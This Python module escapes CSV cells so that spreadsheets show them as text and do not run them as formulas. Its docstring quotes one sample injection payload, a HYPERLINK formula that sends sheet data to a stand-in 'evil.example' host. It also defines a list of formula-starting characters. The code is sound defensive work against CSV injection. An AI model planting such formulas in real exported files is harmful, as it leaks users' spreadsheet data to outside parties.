"""CSV files that are safe to open in a spreadsheet: the one way the project writes CSV.

A cell a researcher controls (a project title, their own name) that starts with ``=``, ``+``,
``-`` or ``@`` is run as a formula by Excel, LibreOffice and Google Sheets when the file is
opened: ``=HYPERLINK("http://evil.example/?"&A1)`` sends the sheet's data away (OWASP, "CSV
Injection"). Every cell written through ``writer`` that starts with one of those, or with a
tab or carriage return, gets a leading apostrophe, which spreadsheets read as "this is text"
and do not show. Numbers are written as they are (a negative number is not a formula).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# OWASP's list: the formula starters, and tab and carriage return, which some spreadsheets
# skip before reading a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` as a cell a spreadsheet shows as text rather than runs as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` with every cell made safe by ``safe_cell``."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """A CSV writer for ``out`` (as ``csv.writer``) whose cells are safe in a spreadsheet."""
    return SafeWriter(out, **options)
